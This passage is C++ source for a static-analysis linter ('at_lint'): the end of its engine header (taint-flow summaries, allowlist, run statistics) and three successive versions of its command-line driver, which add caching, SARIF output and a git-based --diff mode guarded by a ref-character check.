  /// (kind 'a'), the function's own return value (kind 'r'), or a sink
  /// (kind 's': allocation size, index, keyed growth, file path, format).
  /// Phase 2 decides whether the origin is *tainted* by propagating from
  /// AT_UNTRUSTED sources through these summaries over the call graph.
  struct FlowEdge {
    int from_param = -1;    ///< origin parameter index, -1 = none
    std::string from_call;  ///< origin callee name (last component), "" = none
    char kind = 'a';        ///< 'a' arg-pass | 'r' return | 's' sink
    std::string to_call;    ///< kind 'a': callee name
    int to_arg = -1;        ///< kind 'a': 0-based argument position
    std::string sink;       ///< kind 's': alloc-size|index|growth|path|format
    std::string detail;     ///< kind 's': container / callee the sink is on
    std::uint32_t line = 0;
    /// A comparison against the carrying variable dominates this edge (the
    /// value was bounds-checked before use), so taint does not fire here.
    bool checked = false;
  };

  /// A function definition (or an annotated declaration: AT_ACQUIRES /
  /// AT_HOT / AT_UNTRUSTED / AT_SANITIZES on a header prototype contributes
  /// its markers with no body facts). Task pseudo-functions are lambdas
  /// handed to ThreadPool submit/parallel_for*, named "task@<line>".
  struct Function {
    std::string name;  ///< qualified when enclosing class is known
    std::uint32_t line = 0;
    bool hot = false;        ///< AT_HOT marker
    bool is_noexcept = false;
    bool is_dtor = false;
    bool is_task = false;    ///< ThreadPool-submitted callable
    bool untrusted = false;  ///< AT_UNTRUSTED: params + return carry attacker bytes
    bool sanitizes = false;  ///< AT_SANITIZES: return value is validated, clears taint
    std::vector<std::string> acquires;  ///< LockGuard exprs + AT_ACQUIRES args
    std::vector<std::string> params;    ///< positional names ("" when unnamed)
    std::vector<CallSite> calls;
    std::vector<BlockingSite> blocking;
    std::vector<std::uint32_t> throw_lines;  ///< `throw expr` at try-depth 0
    std::vector<AtomicOp> atomics;
    std::vector<FlowEdge> flows;  ///< dataflow summary (see FlowEdge)
  };
  std::vector<Function> functions;

  /// Member-shaped container fields with a growth bound: either annotated
  /// AT_BOUNDED at the declaration, or showing eviction evidence in this
  /// file (erase/pop_front/pop_back/clear on the field). Unioned project-
  /// wide by the linker: eviction in one TU blesses the field everywhere.
  std::vector<std::string> bounded_fields;
};

/// Result of analyzing one file: per-file-rule violations (inline
/// suppressions already applied; allowlist is applied later so editing it
/// never invalidates the cache) plus the facts for project-wide rules.
struct FileAnalysis {
  std::string path;
  std::uint64_t key = 0;  ///< content+sibling+engine-version hash
  bool from_cache = false;
  std::vector<Violation> violations;
  FileFacts facts;
};

/// Context handed to per-file rules.
struct FileCtx {
  const SourceFile& file;
  const TokenStream& tokens;
  const SourceFile* sibling = nullptr;  ///< header paired with a .cpp
  const TokenStream* sibling_tokens = nullptr;
};

struct ProjectGraph;  // link.hpp

/// Context handed to project-wide rules after every file is analyzed and
/// the link phase has resolved the cross-TU graphs.
struct ProjectCtx {
  const std::vector<FileAnalysis>& files;
  const ProjectGraph* graph = nullptr;
};

/// A rule. Implementations live in checks.cpp and register via registry().
/// Per-file work goes in file() (parallelized, cached); cross-file work
/// goes in project() (always runs, consumes FileFacts only).
class Check {
 public:
  virtual ~Check() = default;
  [[nodiscard]] virtual std::string_view name() const noexcept = 0;
  [[nodiscard]] virtual std::string_view summary() const noexcept = 0;
  virtual void file(const FileCtx& ctx, std::vector<Violation>& out) const;
  virtual void project(const ProjectCtx& ctx, std::vector<Violation>& out) const;
};

/// All fifteen checks, in stable registration order.
[[nodiscard]] const std::vector<const Check*>& registry();

/// Allowlist entry: `rule<spaces>file<spaces>token...`. Empty token matches
/// any violation of (rule, file); otherwise the violation's excerpt must
/// contain the token. '#' starts a comment.
struct AllowEntry {
  std::string rule;
  std::string file;
  std::string token;
};

class Allowlist {
 public:
  static Allowlist parse(std::string_view text);

  [[nodiscard]] bool allows(const Violation& violation) const;
  [[nodiscard]] std::size_t size() const noexcept { return entries_.size(); }
  [[nodiscard]] const std::vector<AllowEntry>& entries() const noexcept { return entries_; }

  /// Per-entry match counts over `violations` (pre-allowlist). An entry
  /// with count 0 is stale: the code it excused no longer trips the rule.
  [[nodiscard]] std::vector<std::size_t> match_counts(
      const std::vector<Violation>& violations) const;

 private:
  std::vector<AllowEntry> entries_;
};

class Cache;  // cache.hpp

struct RunStats {
  std::size_t files = 0;
  std::size_t cache_hits = 0;
  std::size_t analyzed = 0;          ///< lexed + fact-extracted this run
  std::size_t raw_violations = 0;    ///< pre-allowlist (post inline suppression)
  std::size_t allowlisted = 0;
  // Per-phase wall times. analyze_ms/project_ms are kept as the two-phase
  // aggregates (analyze = lex + extract, project = link + check + merge).
  double lex_ms = 0.0;      ///< tokenizing cache misses (+ needed siblings)
  double extract_ms = 0.0;  ///< per-file rules + fact extraction
  double link_ms = 0.0;     ///< ProjectGraph build (call/lock/hot resolution)
  double check_ms = 0.0;    ///< project rules + suppression + merge + sort
  double analyze_ms = 0.0;  ///< per-file phase (lex + file rules)
  double project_ms = 0.0;  ///< project rules + merge + sort

  /// Per-rule breakdown, in registry order. file_ms sums the rule's
  /// file() time across cache misses (CPU time when the phase runs
  /// parallel, so the column can exceed wall time); project_ms is its
  /// project() pass; violations counts raw (pre-allowlist) findings.
  struct RuleStat {
    std::string name;
    double file_ms = 0.0;
    double project_ms = 0.0;
    std::size_t violations = 0;
  };
  std::vector<RuleStat> rules;
};

struct RunOptions {
  const Allowlist* allow = nullptr;     ///< optional
  Cache* cache = nullptr;               ///< optional incremental cache
  util::ThreadPool* pool = nullptr;     ///< optional parallel per-file phase
};

/// An inline `// at_lint: allow(...)` that suppressed nothing this run —
/// neither a per-file finding (cached hit count) nor a project finding.
struct StaleSuppression {
  std::string file;
  std::string rule;
  std::uint32_t line = 0;
};

struct RunResult {
  std::vector<Violation> violations;  ///< post-allowlist, sorted
  std::vector<Violation> raw;         ///< pre-allowlist, sorted (stale check)
  std::vector<StaleSuppression> stale_suppressions;  ///< sorted by file/line
  RunStats stats;
};

/// Run every registered check over `files`.
[[nodiscard]] RunResult run(const std::vector<SourceFile>& files, const RunOptions& opts);

/// Run a single rule by name over `files` (tests and focused tooling).
[[nodiscard]] std::vector<Violation> run_check(std::string_view rule,
                                               const std::vector<SourceFile>& files);

/// Convenience single-rule wrappers (unit-test surface, stable across the
/// v1 line-scanner → v2 token-engine rewrite).
[[nodiscard]] std::vector<Violation> check_banned_calls(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_pragma_once(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_include_cycles(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_raw_new_delete(const std::vector<SourceFile>& files);
[[nodiscard]] std::vector<Violation> check_guarded_by(const std::vector<SourceFile>& files);

/// Run every rule and drop allowlisted findings (serial, uncached).
[[nodiscard]] std::vector<Violation> run_all(const std::vector<SourceFile>& files,
                                             const Allowlist& allow);

/// Header self-containment: one generated TU per src/**.hpp that includes
/// only that header. Compiling them (the CMake `lint` target does) proves
/// every header includes what it uses.
struct HeaderTu {
  std::string name;     ///< e.g. "tu_util_thread_pool.cpp"
  std::string content;  ///< "#include \"util/thread_pool.hpp\"\n"
};
[[nodiscard]] std::vector<HeaderTu> generate_header_tus(const std::vector<SourceFile>& files);

// ---- engine internals shared by checks.cpp / cache.cpp / tests ----

/// FNV-1a 64 over `data`.
[[nodiscard]] std::uint64_t fnv1a(std::string_view data, std::uint64_t seed = 0xcbf29ce484222325ULL) noexcept;

/// Engine fingerprint: mixes a version string that MUST be bumped whenever
/// a rule's behavior changes, so stale cache entries self-invalidate.
[[nodiscard]] std::uint64_t engine_salt() noexcept;

/// Analyze one file (lex → per-file rules → inline suppressions → facts).
/// `sibling` is the paired header for a .cpp, when scanned.
[[nodiscard]] FileAnalysis analyze_file(const SourceFile& file, const TokenStream& tokens,
                                        const SourceFile* sibling,
                                        const TokenStream* sibling_tokens);

/// The trimmed source line containing 1-based `line` of `content`.
[[nodiscard]] std::string line_excerpt(std::string_view content, std::size_t line);

/// 1-based column of byte `offset` within its line of `content` (tab = one
/// column; SARIF's default unit). Saturates to the last byte + 1 when
/// `offset` runs past the end.
[[nodiscard]] std::size_t column_of(std::string_view content, std::size_t offset) noexcept;

/// Path of the sibling header a .cpp pairs with ("src/a/b.cpp" → "src/a/b.hpp").
[[nodiscard]] std::string sibling_header_path(std::string_view path);

}  // namespace at::lint
