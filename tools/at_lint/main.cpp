// at_lint CLI. Scans src/ tools/ bench/ tests/ under --root (default: cwd),
// runs every rule, prints violations as `file:line[:col]: [rule] message`, and
// exits nonzero when any survive the allowlist.
//
//   --root DIR              repo root to scan (default '.')
//   --allowlist FILE        allowlist entries (rule file excerpt-substring)
//   --check-stale-allowlist fail (exit 1) when an allowlist entry matches
//                           nothing — the code it excused no longer trips
//   --cache FILE            incremental cache; warm runs re-analyze only
//                           changed files (default: off)
//   --no-cache              ignore --cache (force a cold run)
//   --jobs N                per-file analysis threads (default: hardware
//                           concurrency; 1 = serial)
//   --sarif FILE            also write findings as SARIF 2.1.0 JSON
//   --stats                 print timing / cache-hit / suppression summary
//   --write-header-tus DIR  instead emit one single-include TU per
//                           src/**.hpp (the CMake `lint` target compiles
//                           them to prove header self-containment)
//
// tests/negative/ (deliberately-broken fixtures) is always excluded.

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "at_lint/cache.hpp"
#include "at_lint/lint.hpp"
#include "at_lint/sarif.hpp"
#include "util/parse.hpp"
#include "util/thread_pool.hpp"

namespace fs = std::filesystem;

namespace {

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

/// Repo-relative path with '/' separators.
std::string rel_path(const fs::path& root, const fs::path& file) {
  return fs::relative(file, root).generic_string();
}

bool lintable(const fs::path& path) {
  const auto ext = path.extension().string();
  return ext == ".cpp" || ext == ".hpp";
}

int usage() {
  std::fprintf(stderr,
               "usage: at_lint [--root DIR] [--allowlist FILE] [--check-stale-allowlist]\n"
               "               [--cache FILE] [--no-cache] [--jobs N] [--sarif FILE]\n"
               "               [--stats] [--write-header-tus DIR]\n"
               "  scans src/ tools/ bench/ tests/ below --root (default '.');\n"
               "  tests/negative/ (compile-fail fixtures) is excluded.\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  fs::path root = ".";
  fs::path allowlist_path;
  fs::path tu_dir;
  fs::path cache_path;
  fs::path sarif_path;
  bool no_cache = false;
  bool stats = false;
  bool check_stale = false;
  std::size_t jobs = std::thread::hardware_concurrency();
  if (jobs == 0) jobs = 1;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--root" && i + 1 < argc) {
      root = argv[++i];
    } else if (arg == "--allowlist" && i + 1 < argc) {
      allowlist_path = argv[++i];
    } else if (arg == "--write-header-tus" && i + 1 < argc) {
      tu_dir = argv[++i];
    } else if (arg == "--cache" && i + 1 < argc) {
      cache_path = argv[++i];
    } else if (arg == "--sarif" && i + 1 < argc) {
      sarif_path = argv[++i];
    } else if (arg == "--jobs" && i + 1 < argc) {
      const auto n = at::util::parse_num<std::size_t>(argv[++i]);
      if (!n.has_value() || *n == 0) return usage();
      jobs = *n;
    } else if (arg == "--no-cache") {
      no_cache = true;
    } else if (arg == "--stats") {
      stats = true;
    } else if (arg == "--check-stale-allowlist") {
      check_stale = true;
    } else {
      return usage();
    }
  }

  std::vector<at::lint::SourceFile> files;
  for (const char* dir : {"src", "tools", "bench", "tests"}) {
    const fs::path base = root / dir;
    if (!fs::exists(base)) continue;
    for (const auto& entry : fs::recursive_directory_iterator(base)) {
      if (!entry.is_regular_file() || !lintable(entry.path())) continue;
      const std::string rel = rel_path(root, entry.path());
      // Deliberately broken lint fixtures are not shipped code.
      if (rel.rfind("tests/negative/", 0) == 0) continue;
      files.push_back({rel, read_file(entry.path())});
    }
  }
  // Directory iteration order is filesystem-dependent; sort so output,
  // cache bytes, and header-TU emission are reproducible.
  std::sort(files.begin(), files.end(),
            [](const at::lint::SourceFile& a, const at::lint::SourceFile& b) {
              return a.path < b.path;
            });
  if (files.empty()) {
    std::fprintf(stderr, "at_lint: no .cpp/.hpp files under %s\n", root.string().c_str());
    return 2;
  }

  if (!tu_dir.empty()) {
    fs::create_directories(tu_dir);
    const auto tus = at::lint::generate_header_tus(files);
    for (const auto& tu : tus) {
      // Rewrite only on change so the build does not recompile every TU
      // after every lint run.
      const fs::path out_path = tu_dir / tu.name;
      if (fs::exists(out_path) && read_file(out_path) == tu.content) continue;
      std::ofstream out(out_path, std::ios::binary);
      out << tu.content;
    }
    std::printf("at_lint: wrote %zu header TUs to %s\n", tus.size(),
                tu_dir.string().c_str());
    return 0;
  }

  at::lint::Allowlist allow;
  if (!allowlist_path.empty()) {
    if (!fs::exists(allowlist_path)) {
      std::fprintf(stderr, "at_lint: allowlist not found: %s\n",
                   allowlist_path.string().c_str());
      return 2;
    }
    allow = at::lint::Allowlist::parse(read_file(allowlist_path));
  }

  at::lint::Cache cache;
  const bool use_cache = !cache_path.empty() && !no_cache;
  if (use_cache) cache = at::lint::Cache::load(cache_path.string());

  at::util::ThreadPool pool(jobs);
  at::lint::RunOptions opts;
  opts.allow = &allow;
  opts.cache = use_cache ? &cache : nullptr;
  opts.pool = jobs > 1 ? &pool : nullptr;
  const at::lint::RunResult result = at::lint::run(files, opts);

  if (use_cache && !cache.save(cache_path.string())) {
    std::fprintf(stderr, "at_lint: warning: could not write cache %s\n",
                 cache_path.string().c_str());
  }
  if (!sarif_path.empty()) {
    std::ofstream out(sarif_path, std::ios::binary | std::ios::trunc);
    out << at::lint::to_sarif(result.violations);
    if (!out) {
      std::fprintf(stderr, "at_lint: cannot write SARIF to %s\n",
                   sarif_path.string().c_str());
      return 2;
    }
  }

  for (const auto& v : result.violations) {
    if (v.column > 0) {
      std::printf("%s:%zu:%zu: [%s] %s\n    %s\n", v.file.c_str(), v.line, v.column,
                  v.rule.c_str(), v.message.c_str(), v.excerpt.c_str());
    } else {
      std::printf("%s:%zu: [%s] %s\n    %s\n", v.file.c_str(), v.line, v.rule.c_str(),
                  v.message.c_str(), v.excerpt.c_str());
    }
  }

  int exit_code = result.violations.empty() ? 0 : 1;
  if (check_stale) {
    const auto counts = allow.match_counts(result.raw);
    for (std::size_t i = 0; i < counts.size(); ++i) {
      if (counts[i] != 0) continue;
      const auto& e = allow.entries()[i];
      std::printf("at_lint: stale allowlist entry (matches nothing): %s %s %s\n",
                  e.rule.c_str(), e.file.c_str(), e.token.c_str());
      exit_code = 1;
    }
  }

  if (stats) {
    const auto& s = result.stats;
    std::printf(
        "at_lint: %zu files | %zu cache hits, %zu analyzed | "
        "%zu raw, %zu allowlisted, %zu reported | "
        "analyze %.1f ms, project %.1f ms (jobs=%zu)\n",
        s.files, s.cache_hits, s.analyzed, s.raw_violations, s.allowlisted,
        result.violations.size(), s.analyze_ms, s.project_ms, jobs);
  }
  if (exit_code == 0) {
    std::printf("at_lint: %zu files clean (%zu allowlist entries)\n", files.size(),
                allow.size());
  } else if (!result.violations.empty()) {
    std::printf("at_lint: %zu violation(s)\n", result.violations.size());
  }
  return exit_code;
}
