// at_lint CLI. Scans src/ tools/ bench/ tests/ under --root (default: cwd),
// runs every rule, prints violations as `file:line[:col]: [rule] message`, and
// exits nonzero when any survive the allowlist.
//
//   --root DIR              repo root to scan (default '.')
//   --allowlist FILE        allowlist entries (rule file excerpt-substring)
//   --check-stale-allowlist fail (exit 1) when an allowlist entry matches
//                           nothing, or an inline `// at_lint: allow(...)`
//                           comment suppressed nothing this run
//   --cache FILE            incremental cache; warm runs re-analyze only
//                           changed files (default: off)
//   --no-cache              ignore --cache (force a cold run)
//   --diff REF              print (and exit nonzero on) only findings in
//                           files changed vs `git merge-base HEAD REF`
//                           (REF itself when no merge base exists); the
//                           whole-program phase still analyzes every file,
//                           so cross-TU findings in changed files stay
//                           complete
//   --jobs N                per-file analysis threads (default: hardware
//                           concurrency; 1 = serial)
//   --sarif FILE            also write findings as SARIF 2.1.0 JSON
//                           (unfiltered — --diff narrows text output only)
//   --stats                 print per-phase + per-rule timing / cache-hit
//                           summary; appended as a markdown table to
//                           $GITHUB_STEP_SUMMARY when that is set
//   --write-header-tus DIR  instead emit one single-include TU per
//                           src/**.hpp (the CMake `lint` target compiles
//                           them to prove header self-containment)
//
// tests/negative/ (deliberately-broken fixtures) is always excluded.

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <unordered_set>
#include <vector>

#include "at_lint/cache.hpp"
#include "at_lint/lint.hpp"
#include "at_lint/sarif.hpp"
#include "util/parse.hpp"
#include "util/thread_pool.hpp"

namespace fs = std::filesystem;

namespace {

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

/// Repo-relative path with '/' separators.
std::string rel_path(const fs::path& root, const fs::path& file) {
  return fs::relative(file, root).generic_string();
}

bool lintable(const fs::path& path) {
  const auto ext = path.extension().string();
  return ext == ".cpp" || ext == ".hpp";
}

/// A git rev spelling safe to interpolate into a shell command.
bool safe_ref(const std::string& ref) {
  if (ref.empty()) return false;
  for (const char c : ref) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '_' || c == '.' || c == '/' ||
                    c == '~' || c == '^' || c == '-';
    if (!ok) return false;
  }
  return true;
}

/// Capture a command's stdout into `out`. False when the command fails.
bool run_command(const std::string& cmd, std::string& out) {
  FILE* pipe = popen(cmd.c_str(), "r");
  if (pipe == nullptr) return false;
  char buf[4096];
  while (std::fgets(buf, sizeof(buf), pipe) != nullptr) out += buf;
  return pclose(pipe) == 0;
}

/// Repo-relative paths changed vs `ref` (committed + working tree), via
/// `git diff --name-only`. The ref resolves through `git merge-base HEAD
/// REF` first, so `--diff origin/main` on a feature branch compares
/// against the fork point instead of picking up every file main moved
/// since the branch — REF's tip is only used directly when merge-base
/// fails (detached fixtures, REF not an ancestor-bearing commit).
/// Returns false when git itself fails (bad ref, not a repo) so the
/// caller can fail loudly instead of linting nothing.
bool git_changed_files(const fs::path& root, const std::string& ref,
                       std::vector<std::string>& out) {
  const std::string git = "git -C \"" + root.string() + "\" ";
  std::string base = ref;
  std::string merge_base;
  if (run_command(git + "merge-base HEAD " + ref + " 2>/dev/null", merge_base)) {
    while (!merge_base.empty() &&
           (merge_base.back() == '\n' || merge_base.back() == '\r')) {
      merge_base.pop_back();
    }
    if (!merge_base.empty() && safe_ref(merge_base)) base = merge_base;
  }
  std::string acc;
  if (!run_command(git + "diff --name-only " + base +
                       " -- src tools bench tests 2>/dev/null",
                   acc)) {
    return false;
  }
  std::size_t start = 0;
  while (start < acc.size()) {
    std::size_t end = acc.find('\n', start);
    if (end == std::string::npos) end = acc.size();
    if (end > start) out.emplace_back(acc.substr(start, end - start));
    start = end + 1;
  }
  return true;
}

int usage() {
  std::fprintf(stderr,
               "usage: at_lint [--root DIR] [--allowlist FILE] [--check-stale-allowlist]\n"
               "               [--cache FILE] [--no-cache] [--diff REF] [--jobs N]\n"
               "               [--sarif FILE] [--stats] [--write-header-tus DIR]\n"
               "  scans src/ tools/ bench/ tests/ below --root (default '.');\n"
               "  tests/negative/ (compile-fail fixtures) is excluded.\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  fs::path root = ".";
  fs::path allowlist_path;
  fs::path tu_dir;
  fs::path cache_path;
  fs::path sarif_path;
  bool no_cache = false;
  bool stats = false;
  bool check_stale = false;
  std::string diff_ref;
  std::size_t jobs = std::thread::hardware_concurrency();
  if (jobs == 0) jobs = 1;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--root" && i + 1 < argc) {
      root = argv[++i];
    } else if (arg == "--allowlist" && i + 1 < argc) {
      allowlist_path = argv[++i];
    } else if (arg == "--write-header-tus" && i + 1 < argc) {
      tu_dir = argv[++i];
    } else if (arg == "--cache" && i + 1 < argc) {
      cache_path = argv[++i];
    } else if (arg == "--sarif" && i + 1 < argc) {
      sarif_path = argv[++i];
    } else if (arg == "--jobs" && i + 1 < argc) {
      const auto n = at::util::parse_num<std::size_t>(argv[++i]);
      if (!n.has_value() || *n == 0) return usage();
      jobs = *n;
    } else if (arg == "--diff" && i + 1 < argc) {
      diff_ref = argv[++i];
      if (!safe_ref(diff_ref)) return usage();
    } else if (arg == "--no-cache") {
      no_cache = true;
    } else if (arg == "--stats") {
      stats = true;
    } else if (arg == "--check-stale-allowlist") {
      check_stale = true;
    } else {
      return usage();
    }
  }

  std::vector<at::lint::SourceFile> files;
  for (const char* dir : {"src", "tools", "bench", "tests"}) {
    const fs::path base = root / dir;
    if (!fs::exists(base)) continue;
    for (const auto& entry : fs::recursive_directory_iterator(base)) {
      if (!entry.is_regular_file() || !lintable(entry.path())) continue;
      const std::string rel = rel_path(root, entry.path());
      // Deliberately broken lint fixtures are not shipped code.
      if (rel.rfind("tests/negative/", 0) == 0) continue;
      files.push_back({rel, read_file(entry.path())});
    }
  }
  // Directory iteration order is filesystem-dependent; sort so output,
  // cache bytes, and header-TU emission are reproducible.
  std::sort(files.begin(), files.end(),
            [](const at::lint::SourceFile& a, const at::lint::SourceFile& b) {
              return a.path < b.path;
            });
  if (files.empty()) {
    std::fprintf(stderr, "at_lint: no .cpp/.hpp files under %s\n", root.string().c_str());
    return 2;
  }

  if (!tu_dir.empty()) {
    fs::create_directories(tu_dir);
    const auto tus = at::lint::generate_header_tus(files);
    for (const auto& tu : tus) {
      // Rewrite only on change so the build does not recompile every TU
      // after every lint run.
      const fs::path out_path = tu_dir / tu.name;
      if (fs::exists(out_path) && read_file(out_path) == tu.content) continue;
      std::ofstream out(out_path, std::ios::binary);
      out << tu.content;
    }
    std::printf("at_lint: wrote %zu header TUs to %s\n", tus.size(),
                tu_dir.string().c_str());
    return 0;
  }

  at::lint::Allowlist allow;
  if (!allowlist_path.empty()) {
    if (!fs::exists(allowlist_path)) {
      std::fprintf(stderr, "at_lint: allowlist not found: %s\n",
                   allowlist_path.string().c_str());
      return 2;
    }
    allow = at::lint::Allowlist::parse(read_file(allowlist_path));
  }

  at::lint::Cache cache;
  const bool use_cache = !cache_path.empty() && !no_cache;
  if (use_cache) cache = at::lint::Cache::load(cache_path.string());

  at::util::ThreadPool pool(jobs);
  at::lint::RunOptions opts;
  opts.allow = &allow;
  opts.cache = use_cache ? &cache : nullptr;
  opts.pool = jobs > 1 ? &pool : nullptr;
  const at::lint::RunResult result = at::lint::run(files, opts);

  if (use_cache && !cache.save(cache_path.string())) {
    std::fprintf(stderr, "at_lint: warning: could not write cache %s\n",
                 cache_path.string().c_str());
  }
  if (!sarif_path.empty()) {
    std::ofstream out(sarif_path, std::ios::binary | std::ios::trunc);
    out << at::lint::to_sarif(result.violations);
    if (!out) {
      std::fprintf(stderr, "at_lint: cannot write SARIF to %s\n",
                   sarif_path.string().c_str());
      return 2;
    }
  }

  // --diff narrows the reporting surface only: the whole-program phase
  // above already linked every file, so cross-TU findings anchored in a
  // changed file are as complete as a full run.
  bool diff_active = false;
  std::unordered_set<std::string> changed;
  if (!diff_ref.empty()) {
    std::vector<std::string> names;
    if (!git_changed_files(root, diff_ref, names)) {
      std::fprintf(stderr, "at_lint: git diff against '%s' failed\n", diff_ref.c_str());
      return 2;
    }
    diff_active = true;
    changed.insert(names.begin(), names.end());
  }
  const auto in_diff = [&](const std::string& file) {
    return !diff_active || changed.contains(file);
  };

  std::size_t shown = 0;
  for (const auto& v : result.violations) {
    if (!in_diff(v.file)) continue;
    ++shown;
    if (v.column > 0) {
      std::printf("%s:%zu:%zu: [%s] %s\n    %s\n", v.file.c_str(), v.line, v.column,
                  v.rule.c_str(), v.message.c_str(), v.excerpt.c_str());
    } else {
      std::printf("%s:%zu: [%s] %s\n    %s\n", v.file.c_str(), v.line, v.rule.c_str(),
                  v.message.c_str(), v.excerpt.c_str());
    }
  }

  int exit_code = shown == 0 ? 0 : 1;
  if (check_stale) {
    const auto counts = allow.match_counts(result.raw);
    for (std::size_t i = 0; i < counts.size(); ++i) {
      if (counts[i] != 0) continue;
      const auto& e = allow.entries()[i];
      std::printf("at_lint: stale allowlist entry (matches nothing): %s %s %s\n",
                  e.rule.c_str(), e.file.c_str(), e.token.c_str());
      exit_code = 1;
    }
    for (const auto& s : result.stale_suppressions) {
      std::printf("at_lint: stale inline suppression (suppressed nothing): "
                  "%s:%u allow(%s)\n",
                  s.file.c_str(), s.line, s.rule.c_str());
      exit_code = 1;
    }
  }

  if (stats) {
    const auto& s = result.stats;
    const double hit_rate =
        s.files == 0 ? 0.0
                     : 100.0 * static_cast<double>(s.cache_hits) /
                           static_cast<double>(s.files);
    std::printf(
        "at_lint: %zu files | %zu cache hits (%.0f%%), %zu analyzed | "
        "%zu raw, %zu allowlisted, %zu reported | "
        "lex %.1f ms, extract %.1f ms, link %.1f ms, check %.1f ms (jobs=%zu)\n",
        s.files, s.cache_hits, hit_rate, s.analyzed, s.raw_violations, s.allowlisted,
        result.violations.size(), s.lex_ms, s.extract_ms, s.link_ms, s.check_ms, jobs);
    for (const auto& r : s.rules) {
      std::printf("at_lint:   %-22s file %7.2f ms | project %7.2f ms | %zu raw\n",
                  r.name.c_str(), r.file_ms, r.project_ms, r.violations);
    }
    // On GitHub Actions, mirror the numbers into the job summary so the
    // run page shows per-rule cost and cache health without log digging.
    const char* summary_path = std::getenv("GITHUB_STEP_SUMMARY");
    if (summary_path != nullptr && summary_path[0] != '\0') {
      std::ofstream summary(summary_path, std::ios::app);
      if (summary) {
        summary << "### at_lint\n\n"
                << s.files << " files | " << s.cache_hits << " cache hits ("
                << static_cast<int>(hit_rate) << "%), " << s.analyzed
                << " analyzed | " << s.raw_violations << " raw, " << s.allowlisted
                << " allowlisted, " << result.violations.size() << " reported\n\n"
                << "| rule | file (ms) | project (ms) | raw findings |\n"
                << "|---|---:|---:|---:|\n";
        char row[256];
        for (const auto& r : s.rules) {
          std::snprintf(row, sizeof(row), "| %s | %.2f | %.2f | %zu |\n",
                        r.name.c_str(), r.file_ms, r.project_ms, r.violations);
          summary << row;
        }
        summary << '\n';
      }
    }
  }
  if (exit_code == 0) {
    if (diff_active) {
      std::printf("at_lint: %zu changed file(s) clean (%zu files linked)\n",
                  changed.size(), files.size());
    } else {
      std::printf("at_lint: %zu files clean (%zu allowlist entries)\n", files.size(),
                  allow.size());
    }
  } else if (shown > 0) {
    std::printf("at_lint: %zu violation(s)\n", shown);
  }
  return exit_code;
}
