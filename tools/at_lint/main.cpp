// at_lint CLI. Scans src/ tools/ bench/ tests/ under --root (default: cwd),
// runs every rule, prints violations as `file:line: [rule] message`, and
// exits nonzero when any survive the allowlist. With --write-header-tus it
// instead emits one single-include TU per src/**.hpp into the given
// directory (the CMake `lint` target compiles them to prove header
// self-containment).

#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "at_lint/lint.hpp"

namespace fs = std::filesystem;

namespace {

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

/// Repo-relative path with '/' separators.
std::string rel_path(const fs::path& root, const fs::path& file) {
  std::string out = fs::relative(file, root).generic_string();
  return out;
}

bool lintable(const fs::path& path) {
  const auto ext = path.extension().string();
  return ext == ".cpp" || ext == ".hpp";
}

int usage() {
  std::fprintf(stderr,
               "usage: at_lint [--root DIR] [--allowlist FILE] [--write-header-tus DIR]\n"
               "  scans src/ tools/ bench/ tests/ below --root (default '.');\n"
               "  tests/negative/ (compile-fail fixtures) is excluded.\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  fs::path root = ".";
  fs::path allowlist_path;
  fs::path tu_dir;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--root" && i + 1 < argc) {
      root = argv[++i];
    } else if (arg == "--allowlist" && i + 1 < argc) {
      allowlist_path = argv[++i];
    } else if (arg == "--write-header-tus" && i + 1 < argc) {
      tu_dir = argv[++i];
    } else {
      return usage();
    }
  }

  std::vector<at::lint::SourceFile> files;
  for (const char* dir : {"src", "tools", "bench", "tests"}) {
    const fs::path base = root / dir;
    if (!fs::exists(base)) continue;
    for (const auto& entry : fs::recursive_directory_iterator(base)) {
      if (!entry.is_regular_file() || !lintable(entry.path())) continue;
      const std::string rel = rel_path(root, entry.path());
      // Deliberately mis-locked compile-fail fixtures are not shipped code.
      if (rel.rfind("tests/negative/", 0) == 0) continue;
      files.push_back({rel, read_file(entry.path())});
    }
  }
  if (files.empty()) {
    std::fprintf(stderr, "at_lint: no .cpp/.hpp files under %s\n", root.string().c_str());
    return 2;
  }

  if (!tu_dir.empty()) {
    fs::create_directories(tu_dir);
    const auto tus = at::lint::generate_header_tus(files);
    for (const auto& tu : tus) {
      // Rewrite only on change so the build does not recompile every TU
      // after every lint run.
      const fs::path out_path = tu_dir / tu.name;
      if (fs::exists(out_path) && read_file(out_path) == tu.content) continue;
      std::ofstream out(out_path, std::ios::binary);
      out << tu.content;
    }
    std::printf("at_lint: wrote %zu header TUs to %s\n", tus.size(),
                tu_dir.string().c_str());
    return 0;
  }

  at::lint::Allowlist allow;
  if (!allowlist_path.empty()) {
    if (!fs::exists(allowlist_path)) {
      std::fprintf(stderr, "at_lint: allowlist not found: %s\n",
                   allowlist_path.string().c_str());
      return 2;
    }
    allow = at::lint::Allowlist::parse(read_file(allowlist_path));
  }

  const auto violations = at::lint::run_all(files, allow);
  for (const auto& v : violations) {
    std::printf("%s:%zu: [%s] %s\n    %s\n", v.file.c_str(), v.line, v.rule.c_str(),
